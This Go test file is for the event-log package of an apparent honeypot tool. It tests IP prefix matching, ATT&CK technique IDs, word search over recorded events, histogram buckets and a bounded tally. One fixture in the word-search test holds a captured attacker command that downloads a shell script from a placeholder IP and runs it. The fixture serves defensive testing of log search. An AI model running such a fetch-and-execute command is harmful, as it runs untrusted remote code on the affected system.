package eventlog_test

import (
	"errors"
	"fmt"
	"net/netip"
	"testing"
	"time"

	"honeyguide"
	"honeyguide/internal/eventlog"
)

func TestCovers(t *testing.T) {
	for _, c := range []struct {
		prefix, addr string
		want         bool
	}{
		{"10.0.0.0/8", "10.1.2.3", true},
		{"10.0.0.0/8", "11.1.2.3", false},
		{"::ffff:10.0.0.0/104", "10.1.2.3", true},
		{"10.1.2.3/32", "::ffff:10.1.2.3", true},
		{"fe80::/10", "fe80::1%eth0", true},
		{"::/0", "10.0.0.1", false},
	} {
		if got := eventlog.Covers(netip.MustParsePrefix(c.prefix), netip.MustParseAddr(c.addr)); got != c.want {
			t.Errorf("%s covers %s: %v", c.prefix, c.addr, got)
		}
	}
	if eventlog.Covers(netip.MustParsePrefix("0.0.0.0/0"), netip.Addr{}) {
		t.Error("no address is in a prefix")
	}
}

func TestIsTechnique(t *testing.T) {
	for _, c := range []struct {
		id, want string
		ok       bool
	}{{"T1059", "T1059", true}, {"T1059.004", "T1059", true}, {"T1059", "T1059.004", false}, {"T10590", "T1059", false}, {"", "T1059", false}} {
		if got := eventlog.IsTechnique(c.id, c.want); got != c.ok {
			t.Errorf("%q is %q: %v", c.id, c.want, got)
		}
	}
}

func TestMatchWords(t *testing.T) {
	r := eventlog.Record{Seq: 1, Event: honeyguide.Event{Attrs: map[string]any{
		honeyguide.AttrCommand: "wget http://198.51.100.7/Bins.sh; sh bins.sh", honeyguide.AttrPassword: "hunter2",
	}}}
	for word, want := range map[string]bool{
		"WGET": true, "bins.sh": true, "198.51.100.7 wget": true, "wget curl": false, "bins": false,
		"hunter2": false, // a password is asked for by its attribute, never by a word
	} {
		q := eventlog.Query{Word: word}
		if got := q.Match(&r); got != want {
			t.Errorf("word %q: %v", word, got)
		}
	}
}

func TestHistoBuckets(t *testing.T) {
	h, err := eventlog.NewHisto(time.Minute)
	if err != nil {
		t.Fatal(err)
	}
	for _, s := range []int64{-1, 0, 59, 60} { // before 1970 rounds down, too
		if err := h.Add(s*1e6, honeyguide.SeverityLow, 1); err != nil {
			t.Fatal(err)
		}
	}
	var got []string
	for _, b := range h.Buckets() {
		got = append(got, fmt.Sprint(b.At.Unix(), ":", b.Total()))
	}
	if fmt.Sprint(got) != "[-60:1 0:2 60:1]" {
		t.Errorf("buckets %v", got)
	}
	err = nil
	for i := int64(2); err == nil && i < eventlog.MaxBuckets+2; i++ {
		err = h.Add(i*60e6, honeyguide.SeverityLow, 1)
	}
	if !errors.Is(err, eventlog.ErrQuery) {
		t.Errorf("too many buckets: %v", err)
	}
}

func TestTallyIsBounded(t *testing.T) {
	var tally eventlog.Tally
	for i := range 600_000 {
		tally.Add(fmt.Sprint("rare", i), 1)
		if i%100 == 0 {
			tally.Add("frequent", 1)
		}
	}
	top := tally.Top(1 << 30)
	if top[0] != (eventlog.Count{Value: "frequent", N: 6000}) || len(top) > 1<<18 {
		t.Errorf("%d values, the first %+v", len(top), top[0])
	}
}
